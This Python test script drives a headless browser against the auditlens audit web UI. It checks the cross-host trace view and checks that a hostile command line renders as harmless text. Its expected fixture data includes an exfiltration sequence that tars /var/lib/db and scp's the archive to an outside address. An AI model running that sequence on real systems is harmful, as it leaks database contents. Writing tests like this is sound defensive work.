#!/usr/bin/env python3
"""The trace page in a real browser (headless Chromium, cdp.py) against `auditlens web --postgres`
on three hosts' rows (tests/pg/test_web_trace.sh): hosts as boxes, hops as arrows, a click on a hop
opens that host's timeline, a connection links to the session it opened on the other host and a
session to the one it came from, a hostile command line is text. Screenshots in --shots.

    trace_check.py --url URL --token T --shots DIR --hostile TEXT"""
import argparse
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cdp import Browser, check, summary  # noqa: E402



def rendered(b, what):
    b.wait_for("document.body.getAttribute('data-rendered') === (location.hash || '#/')", what=what)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--shots", required=True)
    ap.add_argument("--hostile", required=True)
    a = ap.parse_args()
    b = Browser()
    try:
        b.navigate(a.url + "/login?token=" + a.token)
        rendered(b, "the first page")
        b.navigate(a.url + "/#/trace/bb-2?host=db-1")
        rendered(b, "the trace")
        boxes = b.eval("[...document.querySelectorAll('#trace-svg .hopbox')].map(g => g.textContent)")
        arrows = b.eval("document.querySelectorAll('#trace-svg .arrow').length")
        check("three hosts as boxes", len(boxes) == 3 and all(any(h in t for t in boxes) for h in ("web-1", "db-1", "backup-1")), f"{boxes}")
        check("two hops as arrows", arrows == 2, f"{arrows}")
        check("the traced session's box is marked", b.eval("document.querySelector('#trace-svg .hopbox.focus').textContent").find("db-1") >= 0)
        check("no element made of a command line in the trace", b.eval("document.querySelectorAll('main img, main script').length") == 0)
        b.screenshot(os.path.join(a.shots, "trace.png"))
        # A click on the arrow to backup-1 opens backup-1's timeline.
        b.eval("document.querySelector('#trace-svg .arrow[data-hop=\"3\"]').dispatchEvent(new MouseEvent('click', {bubbles: true}))")
        b.wait_for("location.hash.startsWith('#/session/cc-3') && document.body.getAttribute('data-rendered') === location.hash",
                   what="backup-1's timeline")
        check("clicking a hop opens that host's timeline", "host=backup-1" in b.eval("location.hash"), b.eval("location.hash"))
        texts = b.eval("[...document.querySelectorAll('#timeline .entry.k-command .text')].map(e => e.firstChild.textContent)")
        check("backup-1's commands, in order", texts == ["tar czf /tmp/db.tgz /var/lib/db", "scp /tmp/db.tgz out@203.0.113.5:"], f"{texts}")
        check("backup-1's login came from db-1 (a link)", "a session on db-1" in b.eval("document.getElementById('main').textContent"))
        b.screenshot(os.path.join(a.shots, "trace-hop-timeline.png"))
        # web-1's timeline: its ssh connection links to db-1's session.
        b.navigate(a.url + "/#/session/aa-1?host=web-1")
        rendered(b, "web-1's timeline")
        link = b.eval("[...document.querySelectorAll('#timeline a.hop')].map(x => [x.textContent, x.getAttribute('href')])")
        check("a connection links to the session it opened on the other host", link == [["→ session on db-1", "#/session/bb-2?host=db-1"]], f"{link}")
        b.eval("document.querySelector('#timeline a.hop').click()")
        b.wait_for("location.hash === '#/session/bb-2?host=db-1' && document.body.getAttribute('data-rendered') === location.hash",
                   what="db-1's timeline through the link")
        main_text = b.eval("document.getElementById('timeline').textContent")
        check("db-1's timeline shows the hostile command as text", a.hostile in main_text and
              b.eval("document.querySelectorAll('#timeline img, #timeline script').length") == 0)
        # An entry of a fleet session opens its event.
        b.eval("[...document.querySelectorAll('#timeline .entry.k-command .row')][0].click()")
        raw = b.wait_for("(document.querySelector('#timeline pre.event-json') || {}).textContent", what="the event's JSON")
        ev = json.loads(raw)
        check("a fleet session's entry opens its event", ev.get("host") == "db-1" and ev.get("kind") == "exec", raw[:200])
        b.screenshot(os.path.join(a.shots, "trace-db-timeline.png"))
        b.navigate(a.url + "/#/tree/bb-2?host=db-1")
        b.wait_for("document.body.getAttribute('data-rendered') === location.hash && document.querySelector('#tree')", what="the tree")
        check("a fleet session's process tree", "psql" in b.eval("document.getElementById('tree').textContent"))
        check("nothing ran", b.eval("typeof window.__pwned") == "undefined" and b.eval("document.title") == "auditlens")
        errors = b.console_errors()
        check("no JS errors on the page", not errors, f"{errors}")
    finally:
        b.close()
    return summary()


if __name__ == "__main__":
    sys.exit(main())
